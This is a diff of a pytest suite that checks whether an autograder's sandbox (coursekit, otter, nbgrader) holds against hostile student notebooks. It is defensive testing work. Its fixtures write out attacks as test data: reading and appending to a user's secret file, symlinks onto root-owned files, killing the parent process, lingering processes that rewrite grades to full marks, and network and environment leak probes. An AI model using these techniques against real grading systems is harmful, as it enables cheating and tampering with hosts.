+                                              "retrieve": tag["lookup"]}))
+    # reads the repository's checks.py itself
+    write_nb(subs, "c_read_checks", Spec(GATED_LOOKUP, REF_RETRIEVE, REF_FORWARD,
+                                         after={"lookup": probe_cell(read_probe(CHECKS_PY)),
+                                                "retrieve": tag["lookup"]}))
+    write_nb(subs, "d_stub", Spec(after=tag))
+    write_nb(subs, "e_reference", ref(after=tag))
+    out = tmp / "out"
+    first = grade(subs, out, jobs=1, env_extra=env_extra)
+    alive = survivor_evidence(marker, token)
+    csv_first = (out / "grades.csv").read_text() if (out / "grades.csv").is_file() else None
+    stamps = {p.name: p.stat().st_mtime_ns for p in (out / ".reports").glob("*.json")} \
+        if (out / ".reports").is_dir() else {}
+    time.sleep(1.0)  # a survivor that is still there has time to act before the rerun
+    second = grade(subs, out, jobs=1, env_extra=env_extra)
+    flags = sorted(str(p) for p in Path("/tmp").glob(f"ck-flag-{token}"))
+    return Batch(first, token, extra={
+        "marker": marker, "alive_after_first": alive, "second": second, "csv_first": csv_first,
+        "stamps": stamps, "host_flags": flags})
+
+
+def _cleanup_survivors(batch: Batch) -> None:
+    end_survivors(batch.extra["marker"], batch.token)
+
+
+@pytest.fixture(scope="module")
+def survivors(tmp_path_factory) -> Batch:
+    batch = survivor_batch(tmp_path_factory.mktemp("survivors"))
+    yield batch
+    _cleanup_survivors(batch)
+
+
+@pytest.fixture(scope="module")
+def landlock_fallback(tmp_path_factory) -> Batch:
+    batch = survivor_batch(tmp_path_factory.mktemp("landlock"), env_extra={"COURSEKIT_REFUSE": "namespaces"})
+    yield batch
+    _cleanup_survivors(batch)
+
+
+# --- probes work where nothing stops them ----------------------------------------------
+
+class TestProbes:
+    """Each probe detects its leak on the host (so a kept-out probe means a sandbox)."""
+
+    @staticmethod
+    def _leaks(body: str) -> bool:
+        ns: dict = {}
+        exec(probe_cell(body), ns)  # noqa: S102 - our own probe, on purpose
+        return ns["LEAKED"]
+
+    @pytest.mark.parametrize("name", sorted(read_probes(RELEASE)))
+    def test_read_probe_detects(self, name, decoy):
+        import coursekit.checks  # noqa: F401 - as the grader's process has it
+        from coursekit.engine import course_bundle
+
+        course_bundle()  # the cache exists (a grade run makes it)
+
+        assert self._leaks(read_probes(RELEASE)[name])
+
+    def test_environment_probe_detects(self, monkeypatch):
+        monkeypatch.setenv(*ENV_TOKEN)
+        assert self._leaks(ENV_PROBE)
+
+    def test_network_probe_detects(self):
+        lst = Listener()
+        try:
+            assert self._leaks(network_probe(lst.port))
+            deadline = time.time() + 5
+            while len(lst.received) < 2048 and time.time() < deadline:
+                time.sleep(0.05)
+            assert len(lst.received) == 2048
+        finally:
+            lst.close()
+
+    def test_flag_and_snoop_probes_detect(self):
+        token = _token()
+        flag = Path("/tmp") / f"ck-flag-{token}"
+        flag.write_text("x")
+        try:
+            assert self._leaks(flag_probe(token))
+        finally:
+            flag.unlink()
+        assert not self._leaks(flag_probe(_token()))
+        assert self._leaks(snoop_probe([str(REPO / "coursekit")]))
+
+    def test_a_probe_that_fails_reads_not_leaked(self):
+        assert not self._leaks("raise OSError('denied')")
+        assert not self._leaks(read_probe(RELEASE).replace(str(RELEASE), "/nonexistent"))
+
+
+# --- 1. inherited file descriptors ------------------------------------------------------
+
+class TestFdEscape:
+    def test_pickle_written_into_inherited_fds_is_never_loaded(self, robustness):
+        assert not robustness.paths["fd_marker"].exists(), (
+            "a process of the grader unpickled what student code wrote into an inherited fd")
+
+    def test_every_row_and_the_right_scores(self, robustness):
+        run = robustness.run
+        assert run.rc == 0 and not run.timed_out, run.why()
+        assert set(run.rows) == {"fd_pickle", "fd_junk", "symlink_job_and_log", "symlink_events",
+                                 "symlink_outputs_dev_zero", "fifo_events", "hostile_events",
+                                 "zip_bombs", "reference", "stub"}, run.why()
+        assert run.scores("reference") == FULL
+        assert run.scores("stub") == ZERO
+        assert run.scores("fd_pickle") == FULL  # the writes change nothing of its own code
+        assert run.scores("fd_junk") == FULL
+
+
+# --- 2. symlinks and FIFOs in the job folder --------------------------------------------
+
+class TestJobFolderTricks:
+    @pytest.mark.parametrize("victim", ["job", "log", "events"])
+    def test_host_file_behind_a_symlink_unchanged(self, robustness, victim):
+        uid, gid, mode, content = _file_state(robustness.paths[victim])
+        assert (uid, gid, oct(mode), content) == (
+            0, 0, oct(0o644), robustness.extra["victim_state"][victim][3]), (
+            f"the grader followed a student's symlink onto {victim} (owner, group, mode, content)")
+
+    def test_dev_zero_unchanged(self, robustness):
+        before, after = robustness.extra["dev_zero"]
+        assert after[:3] == before[:3], "the grader chowned/chmodded /dev/zero through a student's symlink"
+
+    def test_every_row_with_the_right_scores(self, robustness):
+        run = robustness.run
+        assert run.scores("reference") == FULL, run.why()
+        assert run.scores("stub") == ZERO
+        # a crash after the job's files were swapped: the cell is skipped, the rest graded
+        assert run.scores("symlink_job_and_log") == FULL
+        assert run.scores("symlink_outputs_dev_zero") == FULL
+        for name in ("symlink_events", "fifo_events"):  # graded, whatever it cost the attacker
+            assert name in run.rows, run.why()
+            assert run.rows[name]["status"] in ("ok", "timeout")
+
+
+# --- 3. hostile result files -------------------------------------------------------------
+
+class TestHostileResultFiles:
+    def test_batch_finishes_with_every_row(self, robustness):
+        run = robustness.run
+        assert run.rc == 0 and not run.timed_out, run.why()
+        assert {"hostile_events", "zip_bombs", "reference", "stub"} <= set(run.rows), run.why()
+        assert run.scores("reference") == FULL
+        assert run.scores("stub") == ZERO
+
+    def test_hostile_events_give_lookup_nothing(self, robustness):
+        scores = robustness.run.scores("hostile_events")
+        assert scores[0] == 0.0 and sum(scores) <= sum(NOT_LEAKED), scores
+
+    def test_zip_bombs_and_pickles_score_nothing(self, robustness):
+        assert robustness.run.scores("zip_bombs") == ZERO
+
+    def test_pickled_result_array_is_never_loaded(self, robustness):
+        robustness.run.scores("zip_bombs")  # the batch got that far
+        assert not robustness.paths["npz_marker"].exists()
+
+
+# --- 4. processes that outlive their job --------------------------------------------------
+
+class TestSurvivors:
+    def test_stub_and_reference_graded_after_a_survivor(self, survivors):
+        run = survivors.run
+        assert run.rc == 0 and not run.timed_out, run.why()
+        assert run.scores("d_stub") == ZERO, "a survivor of an earlier job changed the stub's grade"
+        assert run.scores("e_reference") == FULL
+        assert run.scores("a_survivor") == FULL  # leaving a process behind costs nothing by itself
+
+    def test_survivor_left_nothing_for_later_jobs(self, survivors):
+        assert survivors.run.scores("b_collector") == NOT_LEAKED
+        assert survivors.run.scores("c_read_checks") == NOT_LEAKED
+        assert survivors.extra["host_flags"] == []
+
+    def test_rerun_reuses_reports_and_gives_the_same_csv(self, survivors):
+        second = survivors.extra["second"]
+        assert second.rc == 0, second.why()
+        assert survivors.extra["csv_first"] is not None
+        assert (survivors.run.out / "grades.csv").read_text() == survivors.extra["csv_first"]
+        now = {p.name: p.stat().st_mtime_ns for p in (survivors.run.out / ".reports").glob("*.json")}
+        assert now == survivors.extra["stamps"]  # nothing regraded, nothing rewritten
+
+    def test_no_process_of_the_attack_alive(self, survivors):
+        assert survivors.extra["alive_after_first"] == [], "survivor processes outlived the grade run"
+        assert survivor_evidence(survivors.extra["marker"], survivors.token) == []
+
+
+# --- 5. network ---------------------------------------------------------------------------
+
+class TestNetwork:
+    def test_nothing_received_on_the_loopback(self, confidentiality):
+        confidentiality.run.scores("reference")  # graded
+        time.sleep(0.5)
+        lst = confidentiality.extra["listener"]
+        assert (lst.connections, bytes(lst.received)) == (0, b"")
+
+    def test_connect_probe_not_leaked(self, confidentiality):
+        assert confidentiality.run.scores("network") == NOT_LEAKED
+
+
+# --- 6. reading what it must not -------------------------------------------------------------
+
+class TestReading:
+    @pytest.mark.parametrize("name", sorted(read_probes(RELEASE)))
+    def test_not_leaked(self, confidentiality, name):
+        assert confidentiality.run.scores(name) == NOT_LEAKED, f"{name}: the probe leaked (lookup 5)"
+
+    def test_reference_and_stub(self, confidentiality):
+        assert confidentiality.run.scores("reference") == FULL, confidentiality.run.why()
+        assert confidentiality.run.scores("stub") == ZERO
+
+
+# --- 7. environment --------------------------------------------------------------------------
+
+class TestEnvironment:
+    def test_grader_environment_not_visible(self, confidentiality):
+        assert confidentiality.run.scores("environment") == NOT_LEAKED
+
+
+# --- 8. /tmp leftovers -----------------------------------------------------------------------
+
+class TestTmpLeftovers:
+    def test_no_leftover_in_host_tmp(self, confidentiality):
+        confidentiality.run.scores("tmp_leftover")  # graded
+        name = confidentiality.paths["leftover"].name
+        found = [str(p) for pattern in (name, f"*/{name}", f"*/*/{name}", f"*/*/*/{name}")
+                 for p in Path("/tmp").glob(pattern)]
+        assert found == []
+
+    def test_leftover_writer_gets_full_marks(self, confidentiality):
+        assert confidentiality.run.scores("tmp_leftover") == FULL
+
+
+# --- 9. graded by an ordinary user -----------------------------------------------------------
+
+def _readable_by_others(path: Path) -> bool:
+    try:
+        path = path.resolve()
+        if not path.stat().st_mode & stat.S_IROTH:
+            return False
+        return all(p.stat().st_mode & stat.S_IXOTH for p in [path, *path.parents])
+    except OSError:
+        return False
+
+
+@pytest.fixture(scope="module")
+def as_user() -> Batch:
+    """`coursekit grade` run by an ordinary user, twice; survivors rewrite stored reports."""
+    if os.geteuid() != 0:
+        pytest.skip("needs root to create the test user")
+    if not shutil.which("useradd") or not shutil.which("setpriv"):
+        pytest.skip("useradd or setpriv missing")
+    venv = REPO / ".venv"
+    for path in (venv if venv.exists() else Path(sys.prefix), Path(sys.executable).resolve().parent,
+                 Path(os.__file__).parent, REPO):
+        if not _readable_by_others(path):
+            pytest.skip(f"{path} is not readable by other users: an ordinary user cannot run the grader")
+    try:
+        pw = pwd.getpwnam(STUDENT_USER)
+    except KeyError:
+        subprocess.run(["useradd", "-m", "-s", "/bin/sh", STUDENT_USER], check=True, capture_output=True)
+        pw = pwd.getpwnam(STUDENT_USER)
+    home = Path(pw.pw_dir)
+    home.mkdir(exist_ok=True)
+    os.chown(home, pw.pw_uid, pw.pw_gid)
+    token = _token()
+    secret = home / "secret.txt"
+    secret_text = f"secret {token}\n"
+    secret.write_text(secret_text)
+    secret.chmod(0o600)
+    os.chown(secret, pw.pw_uid, pw.pw_gid)
+    work = home / f"ck-{token}"
+    subs, out = work / "subs", work / "out"
+    marker = f"ck-survivor-{token}"
+    write_nb(subs / "1", "secret_reader", probe_spec(f"""
+leaked = False
+try:
+    with open({str(secret)!r}) as f:
+        leaked = {secret_text!r} in f.read()
+except OSError:
+    pass
+try:
+    with open({str(secret)!r}, "a") as f:
+        f.write("PWNED\\n")
+except OSError:
+    pass
+return leaked
+"""))  # reads and appends to the user's ~/secret.txt
+    # leaves a process that rewrites the stored reports to full marks
+    write_nb(subs / "1", "survivor_reports", ref(after={"forward": survivor_cell(
+        marker, str(out / ".reports"), token)}))
+    write_nb(subs / "1", "stub", Spec())
+    write_nb(subs / "1", "wrong", Spec(WRONG_LOOKUP, REF_RETRIEVE, REF_FORWARD))  # no softmax: 10
+    write_nb(subs / "1", "reference", ref())
+    # last (a grader that dies with its worker would lose the rest of the batch today)
+    write_nb(subs / "2", "kill_parent", ref(after={"retrieve": KILL_PARENT}))  # kills its parent process
+    out.mkdir(parents=True)
+    for path in [work, *work.rglob("*")]:
+        os.chown(path, pw.pw_uid, pw.pw_gid)
+    from coursekit.engine import course_bundle
+
+    course_bundle()  # the cached data slice exists (the user cannot write the repository)
+    prefix = ("setpriv", f"--reuid={pw.pw_uid}", f"--regid={pw.pw_gid}", "--init-groups", "env",
+              f"HOME={home}", f"USER={STUDENT_USER}", f"LOGNAME={STUDENT_USER}")
+    folders = [subs / "1", subs / "2"]
+    first = grade(folders, out, prefix=prefix)
+    time.sleep(1.5)  # a survivor that is still there has time to act before the rerun
+    second = grade(folders, out, prefix=prefix)
+    batch = Batch(first, token, paths={"secret": secret}, extra={
+        "second": second, "secret_text": secret_text, "marker": marker,
+        "alive": survivor_evidence(marker, token)})
+    yield batch
+    end_survivors(marker, token)
+    shutil.rmtree(work, ignore_errors=True)
+    secret.unlink(missing_ok=True)
+
+
+class TestOrdinaryUser:
+    def test_secret_unchanged_and_not_leaked(self, as_user):
+        assert as_user.paths["secret"].read_text() == as_user.extra["secret_text"]
+        assert as_user.run.scores("secret_reader") == NOT_LEAKED, as_user.run.why()
+
+    def test_kill_parent_still_writes_every_row(self, as_user):
+        run = as_user.run
+        assert run.rc == 0, run.why()
+        assert set(run.rows) == {"secret_reader", "survivor_reports", "kill_parent", "stub", "wrong",
+                                 "reference"}, run.why()
+        assert run.scores("kill_parent") == FULL
+        assert run.scores("reference") == FULL
+
+    def test_survivor_cannot_rewrite_stored_reports(self, as_user):
+        wrong = (3.0, 2.0, 3.0, 2.0)  # WRONG_LOOKUP
+        for run in (as_user.run, as_user.extra["second"]):
+            assert run.scores("stub") == ZERO, run.why()
+            assert run.scores("wrong") == wrong
+            assert run.scores("reference") == FULL
+
+    def test_no_process_of_the_attack_alive(self, as_user):
+        assert as_user.extra["alive"] == []
+
+
+# --- 10. otter run with the built autograder zip --------------------------------------------
+
+@pytest.fixture(scope="module")
+def otter_attack(built, tmp_path_factory) -> Batch:
+    """One `otter run`: a probe for the autograder's files gates lookup; another cell swaps
+    job.json for a symlink to a root file and crashes."""
+    tmp = tmp_path_factory.mktemp("otter")
+    victim = tmp / "victim-otter"
+    token = _token()
+    victim.write_text(f"victim otter {token}\n")
+    victim.chmod(0o644)
+    spec = Spec(GATED_LOOKUP, REF_RETRIEVE, REF_FORWARD, after={
+        "lookup": probe_cell(snoop_probe([])),  # looks for the autograder's files
+        # job.json and the log become symlinks to a root file, then a crash
+        "retrieve": symlink_cell({"job.json": str(victim), "stdout.txt": str(victim)})})
+    sub = tmp / "sub" / f"{A}.ipynb"
+    write_nb(sub.parent, A, spec, release=built["release"])
+    out = tmp / "out"
+    out.mkdir()
+    run = run_cmd([sys.executable, "-m", "otter", "run", "-a", str(built["zip"]), "-o", str(out),
+                   "--no-logo", str(sub)], cwd=out, timeout=400)
+    run.out = out
+    results = out / "results.json"
+    data = json.loads(results.read_text()) if results.is_file() else None
+    return Batch(run, token, paths={"victim": victim},
+                 extra={"results": data, "victim_text": f"victim otter {token}\n"})
+
+
+class TestOtterRun:
+    def test_results_have_the_scores_of_the_code_without_the_attack(self, otter_attack):
+        results = otter_attack.extra["results"]
+        assert results is not None, otter_attack.run.why()
+        got = {t["name"]: t.get("score") for t in results["tests"] if t["name"] in QUESTIONS}
+        assert tuple(got.get(q) for q in QUESTIONS) == NOT_LEAKED, got
+
+    def test_victim_unchanged(self, otter_attack):
+        assert _file_state(otter_attack.paths["victim"]) == (
+            0, 0, 0o644, otter_attack.extra["victim_text"].encode())
+
+
+# --- 11. nbgrader autograde --------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def nbgrader_course(built, tmp_path_factory) -> Batch:
+    """One `nbgrader autograde` of three students: a survivor first, then a stub and the
+    reference (nbgrader grades them in name order)."""
+    root = tmp_path_factory.mktemp("nbgrader-iso") / "course"
+    shutil.copytree(built["nbgrader_course"], root)
+    env = dict(os.environ)
+    gen = run_cmd([sys.executable, "-m", "nbgrader", "generate_assignment", A], cwd=root, env=env, timeout=300)
+    assert gen.rc == 0, gen.why()
+    release = root / "release" / A / f"{A}.ipynb"
+    token = _token()
+    marker = f"ck-survivor-{token}"
+    tag = batch_tag(token)
+    # a_survivor leaves a re-forking process that tampers with the later students' jobs
+    subs = {"a_survivor": ref(after={"forward": survivor_cell(marker, "jobs", token)}),
+            "b_stub": Spec(after=tag), "c_reference": ref(after=tag)}
+    for student, spec in subs.items():
+        write_nb(root / "submitted" / student / A, A, spec, release=release)
+    run = run_cmd([sys.executable, "-m", "nbgrader", "autograde", A], cwd=root, env=env, timeout=400)
+    batch = Batch(run, token, extra={"marker": marker, "alive": survivor_evidence(marker, token),
+                                     "root": root})
+    yield batch
+    _cleanup_survivors(batch)
+
+
+def _gradebook_scores(root: Path) -> dict[str, tuple[float, ...]]:
+    from nbgrader.api import Gradebook
+
+    from coursekit import checks
+
+    table = {}
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
+        for student in gb.students:
+            try:
+                sub = gb.find_submission_notebook(A, A, student.id)
+            except Exception:  # noqa: BLE001 - not graded
+                continue
+            per = dict.fromkeys(QUESTIONS, 0.0)
+            for grade_ in sub.grades:
+                if grade_.name in checks.CASES:
+                    per[checks.CASES[grade_.name].question] += grade_.score or 0.0
+            table[student.id] = tuple(round(v, 6) for v in per.values())
+    return table
+
+
+class TestNbgrader:
+    def test_survivor_before_stub_and_reference(self, nbgrader_course):
+        run = nbgrader_course.run
+        assert run.rc == 0, run.why()
+        scores = _gradebook_scores(nbgrader_course.extra["root"])
+        assert scores.get("b_stub") == ZERO, scores
+        assert scores.get("c_reference") == FULL, scores
+
+    def test_no_process_of_the_attack_alive(self, nbgrader_course):
+        assert nbgrader_course.extra["alive"] == []
+
+
+# --- 12. the isolation level --------------------------------------------------------------------
+
+class TestIsolationLevel:
+    def test_every_row_reads_namespaces(self, confidentiality):
+        run = confidentiality.run
+        assert run.rows, run.why()
+        levels = {name: row.get("isolation") for name, row in run.rows.items()}
+        assert set(levels.values()) == {"namespaces"}, levels
+
+    def test_refused_namespaces_fall_back_to_landlock(self, landlock_fallback):
+        run = landlock_fallback.run
+        assert run.rc == 0 and not run.timed_out, run.why()
+        levels = {name: row.get("isolation") for name, row in run.rows.items()}
+        assert set(levels.values()) == {"landlock"}, levels
+        assert run.scores("c_read_checks") == NOT_LEAKED, "read the repository's checks.py"
+        assert run.scores("b_collector") == NOT_LEAKED, "a survivor reached checks.py and said so"
+        assert landlock_fallback.extra["host_flags"] == []
+        assert run.scores("d_stub") == ZERO
+        assert run.scores("e_reference") == FULL
+        assert landlock_fallback.extra["alive_after_first"] == []
+
+    def test_required_isolation_refused_stops_before_grading(self, tmp_path):
+        write_nb(tmp_path / "subs", "stub", Spec())
+        out = tmp_path / "out"
+        run = grade(tmp_path / "subs", out, env_extra={"COURSEKIT_REFUSE": "namespaces"},
+                    args=("--require-isolation", "namespaces"), timeout=120)
+        lines = [line for line in (run.stdout + run.stderr).splitlines() if line.strip()]
+        assert run.rc not in (0, None), run.why()
+        assert len(lines) == 1 and "isolation" in lines[0], lines
+        assert "usage:" not in lines[0] and "unrecognized" not in lines[0], lines
+        assert not (out / "grades.csv").exists()
